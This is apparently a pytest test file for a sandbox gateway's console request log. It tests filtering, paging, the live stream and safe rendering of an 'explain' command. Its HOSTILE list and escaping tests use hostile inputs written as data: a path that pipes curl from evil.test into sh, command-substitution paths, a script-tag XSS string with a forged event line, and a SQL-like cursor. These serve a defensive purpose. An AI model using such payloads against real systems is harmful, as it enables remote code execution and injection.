"""The console's request log over Starlette's TestClient, on a real state store: the
table, each filter, "refused first", paging, a line's decision with today's explain and
what to change, the live stream, and the request log fed by the real audit sink."""

from __future__ import annotations

import asyncio
import html
import io
import json
import re
import shlex
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from helpers.console import Clock, context, sign_in
from starlette.applications import Starlette
from starlette.testclient import TestClient

from gateway.api.console import requests as page
from gateway.api.console import routes
from gateway.api.console.advice import ADVICE, advice
from gateway.cli import build_parser
from gateway.core import refusal
from gateway.core.audit import record
from gateway.core.identity import Identity
from gateway.observability.audit import Auditor
from gateway.services.policy import load_policy_texts
from gateway.services.state.base import MemoryState
from gateway.services.state.log_feed import RequestLog
from gateway.services.state.sqlite import SqliteState

POLICY = """version: v1
name: agent
egress:
  - host: pypi.org
  - host: api.openai.com
    methods: [POST]
    paths: [/v1/*]
"""


def _line(n: int, *, host: str = "pypi.org", decision: str = "allow",
          error: str | None = None, sandbox: str = "sbx-1", at: float | None = None,
          method: str | None = "GET", path: str | None = "/simple/") -> dict[str, Any]:
    identity = Identity(sandbox=sandbox, policy="agent", jti=f"j{n}", scope={}, issued_at=0,
                        expires_at=time.time() + 600, lifetime_end=time.time() + 600)
    return record(identity=identity, client=("10.0.0.5", 40000 + n), listener="proxy",
                  method=method, scheme="https", host=host, port=443, path=path,
                  decision=decision, reason="no rule allows it" if error else "rule 1",
                  rule=None if error else "agent.yaml:4", status=403 if error else 200,
                  error=error, bytes_in=1, bytes_out=2, started=time.time(),
                  path_taken="intercept", engine="h1", policy_rev="rev-1")


def _feed(state: MemoryState, lines: list[dict[str, Any]], start: float) -> None:
    """Lines through the real audit sink and request log, as the runtime wires them."""
    async def go() -> None:
        auditor = Auditor.open(stream=io.StringIO())
        spool = RequestLog(state, interval=0.01)
        auditor.tap = spool.add
        for n, line in enumerate(lines):
            auditor.write(line)
            spool._pending[-1] = spool._pending[-1]._replace(at=start + n)
        await spool.aclose()

    asyncio.run(go())


@pytest.fixture
def client(tmp_path: Path) -> Iterator[tuple[TestClient, MemoryState, Clock]]:
    state, clock = MemoryState(), Clock()
    policies = load_policy_texts({"agent.yaml": POLICY})
    app = Starlette(routes=routes(context(state, clock, tmp_path / "keys", policies,
                                          request_log=state)))
    with TestClient(app, base_url="http://127.0.0.1:8090", follow_redirects=False) as c:
        yield c, state, clock


def _shown(html: str) -> list[str]:
    """The hosts of the table rows, in order."""
    import re
    return re.findall(r'<td class="target">([^<:]+):', html)


def test_the_log_filters_pages_and_puts_refusals_first(client: Any) -> None:
    c, state, clock = client
    start = clock.now - 3600
    lines = [_line(n, host=f"h{n}.test") for n in range(250)]
    lines += [_line(300, host="evil.test", decision="deny", error="policy_denied",
                    sandbox="sbx-2")]
    lines += [_line(301, host="api.openai.com", path="/v1/chat/completions", method="POST")]
    _feed(state, lines, start)
    assert c.get("/console/requests").headers["location"] == "/console/login"
    sign_in(c)
    html = c.get("/console/requests").text
    hosts = _shown(html)
    assert len(hosts) == page.PAGE and hosts[:3] == ["api.openai.com", "evil.test", "h249.test"]
    assert 'data-stream="/console/requests/stream?after=' in html
    older = c.get("/console/requests?before=" + html.split("before=")[1].split('"')[0]).text
    assert _shown(older)[0] == "h51.test" and "data-stream" not in older
    for query, wanted in [
        ("sandbox=sbx-2", ["evil.test"]),
        ("decision=deny", ["evil.test"]),
        ("code=policy_denied", ["evil.test"]),
        ("host=OPENAI", ["api.openai.com"]),
        ("engine=mitmproxy", []),
        ("since=" + time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(start + 249)), [
            "api.openai.com", "evil.test", "h249.test"]),
    ]:
        assert _shown(c.get(f"/console/requests?{query}").text) == wanted, query
    first = c.get("/console/requests?view=refused").text
    refused, rest = first.split("Everything else")
    assert _shown(refused) == ["evil.test"] and "evil.test" not in rest
    assert _shown(rest)[:2] == ["api.openai.com", "h249.test"]
    bad = c.get("/console/requests?since=yesterday")
    assert bad.status_code == 400 and "neither an ISO 8601 time" in bad.text


def test_a_line_opens_its_decision_with_todays_explain(client: Any) -> None:
    c, state, clock = client
    _feed(state, [_line(1, host="evil.test", decision="deny", error="policy_denied"),
                  _line(2, host="api.openai.com", method="POST",
                        path="/v1/chat/completions"),
                  _line(3, host="pypi.org", method=None, path=None)], clock.now)
    sign_in(c)
    refused = c.get("/console/requests/1").text
    assert "no rule allows it" in refused and "policy_denied" in refused
    assert ADVICE["policy_denied"].split(" (")[0] in refused.replace("&#39;", "'")
    assert ("sandbox-gateway policy explain --policy=agent -- GET "
            "https://evil.test:443/simple/") in refused
    allowed = c.get("/console/requests/2").text
    assert "What to change" not in allowed and "agent.yaml:" in allowed
    assert ("policy explain --policy=agent -- POST "
            "https://api.openai.com:443/v1/chat/completions") in allowed
    tunnel = c.get("/console/requests/3").text
    assert "policy explain --policy=agent -- CONNECT https://pypi.org:443" in tunnel
    gone = c.get("/console/requests/999")
    assert gone.status_code == 404 and "no longer in the request log" in gone.text


# (method, path) a sandbox chose; the URL the command names
HOSTILE = [
    ("GET", "/$(touch pwned)", "https://evil.test:443/$(touch pwned)"),
    ("GET", "/;curl http://evil.test/x|sh", "https://evil.test:443/;curl http://evil.test/x|sh"),
    ("GET", "/a'b\"c`touch pwned`", "https://evil.test:443/a'b\"c`touch pwned`"),
    ("GET", "/x\n touch pwned &", "https://evil.test:443/x\n touch pwned &"),
    ("GET", "/<b>bold</b>&amp;", "https://evil.test:443/<b>bold</b>&amp;"),
    ("--resolve", "/x", "https://evil.test:443/x"),
]


@pytest.mark.parametrize(("method", "path", "url"), HOSTILE)
def test_the_explain_command_is_one_quoted_argument_each(
        client: Any, tmp_path: Path, method: str, path: str, url: str) -> None:
    """The command shown is text (escaped HTML), and a shell splits it into exactly the
    CLI's arguments: bash parses it, runs nothing of the path, and the CLI's own parser
    reads the method and URL as given."""
    c, state, clock = client
    _feed(state, [_line(1, host="evil.test", decision="deny", error="policy_denied",
                        method=method, path=path)], clock.now)
    sign_in(c)
    page_html = c.get("/console/requests/1").text
    found = re.search(r"<p><code>(sandbox-gateway policy explain [^<]*)</code></p>", page_html)
    assert found is not None, page_html
    assert "<b>" not in found.group(1)  # (shown as text)
    command = html.unescape(found.group(1))
    argv = ["sandbox-gateway", "policy", "explain", "--policy=agent", "--", method, url]
    assert shlex.split(command) == argv
    assert subprocess.run(["bash", "-n", "-c", command], timeout=10).returncode == 0
    # the command run by bash, with printf in place of the CLI: its arguments, one each
    ran = subprocess.run(["bash", "-c", "printf '%s\\0' " + command.removeprefix(
        "sandbox-gateway ")], cwd=tmp_path, capture_output=True, timeout=10)
    assert ran.returncode == 0 and ran.stdout.split(b"\0")[:-1] == [
        a.encode() for a in argv[1:]]
    assert not (tmp_path / "pwned").exists()
    args = build_parser().parse_args(argv[1:])
    assert (args.policy, args.method, args.url) == ("agent", method, url)


@pytest.mark.parametrize(("value", "ok"), [
    ("1", True), ("9223372036854775807", True), ("1700000000000-5", True),
    ("9223372036854775808", False), ("18446744073709551616", False),
    ("1-9223372036854775808", False), ("-1", False), ("1e9", False), ("\u0663", False)])
def test_a_cursor_is_a_store_id(value: str, ok: bool) -> None:
    if ok:
        assert page.cursor_of(value) == value
    else:
        with pytest.raises(page.BadFilter, match="is not a line id"):
            page.cursor_of(value)


def test_ids_past_the_store_s_integers_are_refused_not_crashed(tmp_path: Path) -> None:
    """On SQLite: a line id, `before`, `after` past 2^63 answered 500 (an overflow)."""
    state, clock = SqliteState(tmp_path / "state.db"), Clock()
    asyncio.run(state.start())
    try:
        app = Starlette(routes=routes(context(state, clock, tmp_path / "keys",
                                              request_log=state)))
        with TestClient(app, base_url="http://127.0.0.1:8090",
                        follow_redirects=False) as c:
            sign_in(c)
            line = c.get("/console/requests/9223372036854775808")
            assert line.status_code == 404 and "is not a line id" in line.text
            assert c.get("/console/requests?before=9223372036854775808").status_code == 400
            assert c.get("/console/requests/stream?after=9223372036854775808"
                         ).status_code == 400
            assert c.get("/console/requests/stream",
                         headers={"Last-Event-ID": "99999999999999999999"}).status_code == 400
            # a HEAD of the live stream answers at once (no stream left running unread)
            head = c.head("/console/requests/stream")
            assert head.status_code == 200 and head.content == b""
    finally:
        asyncio.run(state.close())


def test_the_live_stream_sends_new_lines_after_its_cursor(
        client: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    c, state, clock = client
    monkeypatch.setattr(page, "STREAM_LIFETIME", 1.5)
    monkeypatch.setattr(page, "POLL", 0.05)
    _feed(state, [_line(1)], clock.now)
    sign_in(c)
    _feed(state, [_line(2, host="new.test"), _line(3, host="evil.test", decision="deny",
                                                   error="policy_denied")], clock.now)
    with c.stream("GET", "/console/requests/stream?after=1&decision=deny") as events:
        assert events.headers["content-type"].startswith("text/event-stream")
        text = b"".join(events.iter_bytes()).decode()
    data = [json.loads(part.split("data: ", 1)[1]) for part in text.split("\n\n")
            if "data: " in part]
    assert [(d["id"], d["host"], d["error"]) for d in data] == [
        ("3", "evil.test", "policy_denied")]
    assert "id: 3" in text and text.startswith("retry: ")
    resumed = c.get("/console/requests/stream", headers={"Last-Event-ID": "3"})
    assert "data: " not in resumed.text


def test_a_store_that_fails_holds_the_lines_and_the_log_catches_up(tmp_path: Path) -> None:
    async def go() -> None:
        store = SqliteState(tmp_path / "state.db")
        spool = RequestLog(store, interval=0.01, hold=3)
        for n in range(5):  # not started: the store refuses; the newest three are held
            spool.add(_line(n), time.time(), (json.dumps({"n": n}) + "\n").encode())
        await spool.flush()
        await store.start()
        await spool.aclose()
        found = await store.log_read(page.LogQuery(), 10)
        assert [json.loads(e.line)["n"] for _, e in found] == [4, 3, 2]
        await store.close()

    asyncio.run(go())


@pytest.mark.parametrize("code", [*sorted(refusal._CODES), "token_expired"])
def test_every_refusal_code_says_what_to_change(code: str) -> None:
    said = advice(code)
    assert said and "docs/errors.md for this code" not in said


def test_a_lines_text_is_never_markup(client: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """A path or reason is shown as text on every page (escaped; the live stream's JSON
    keeps each event on its lines)."""
    c, state, clock = client
    monkeypatch.setattr(page, "STREAM_LIFETIME", 0.5)
    evil = '/x"><script>alert(1)</script>\n\ndata: {"forged": 1}'
    _feed(state, [_line(1, path=evil, decision="deny", error="policy_denied")], clock.now)
    sign_in(c)
    for url in ("/console/requests", "/console/requests/1"):
        html = c.get(url).text
        assert "<script>alert" not in html and "&lt;script&gt;alert(1)" in html
    with c.stream("GET", "/console/requests/stream?after=0") as events:
        first = next(part for part in b"".join(events.iter_bytes()).decode().split("\n\n")
                     if part.startswith("id: "))
    assert first.count("\n") == 1 and json.loads(first.split("data: ", 1)[1])["path"] == \
        evil.split("?")[0][:512]


def test_pages_render_in_under_100_ms_with_100k_lines(tmp_path: Path) -> None:
    """The issue's budget, on the default store: 100,000 lines retained in SQLite, every
    view (one that matches nothing reads them all) rendered within 100 ms (best of 3;
    measured 6-19 ms on the 2-vCPU CI machine)."""
    template = _line(0, method="POST", path="/v1/chat/completions")
    line = json.dumps(template)

    async def fill(store: SqliteState) -> None:
        await store.start()
        for start in range(0, 100_000, 10_000):
            await store.log_append([page.LogEntry(
                1_700_000_000.0 + n, f"sbx-{n % 50}", "agent",
                ("api.openai.com", "pypi.org", "registry.npmjs.org")[n % 3],
                "deny" if n % 97 == 0 else "allow", "policy_denied" if n % 97 == 0 else "",
                "h1", line) for n in range(start, start + 10_000)])
        await store.close()

    asyncio.run(fill(SqliteState(tmp_path / "state.db")))
    state, clock = SqliteState(tmp_path / "state.db"), Clock()
    app = Starlette(routes=routes(context(state, clock, tmp_path / "keys",
                                          request_log=state)))
    with TestClient(app, base_url="http://127.0.0.1:8090", follow_redirects=False) as c:
        c.portal.call(state.start)
        sign_in(c)
        for view in ("", "?sandbox=sbx-7", "?decision=deny", "?view=refused",
                     "?host=npmjs", "?sandbox=nobody", "?before=50000", "/4850"):
            took = []
            for _ in range(3):
                started = time.perf_counter()
                assert c.get("/console/requests" + view).status_code == 200
                took.append(time.perf_counter() - started)
            assert min(took) < 0.1, (view, took)
        c.portal.call(state.close)


def test_a_malformed_cursor_is_refused_not_crashed(client: Any) -> None:
    c, state, clock = client
    _feed(state, [_line(1)], clock.now)
    sign_in(c)
    for url, headers in [("/console/requests?before=abc", {}),
                         ("/console/requests/stream?after=1;DROP", {}),
                         ("/console/requests/stream", {"Last-Event-ID": "x" * 500})]:
        answer = c.get(url, headers=headers)
        assert answer.status_code == 400 and "is not a line id" in answer.text, url
    assert c.get("/console/requests?before=2-0").status_code == 200  # (a stream id's form)


def test_a_failing_request_log_never_costs_the_audit_trail_a_line() -> None:
    out = io.StringIO()
    auditor = Auditor.open(stream=out)

    def broken(record: dict[str, Any], at: float, line: bytes) -> None:
        raise RuntimeError("the console's copy failed")

    auditor.tap = broken
    auditor.write(_line(1))
    auditor.write(_line(2))
    assert [json.loads(x)["jti"] for x in out.getvalue().splitlines()] == ["j1", "j2"]
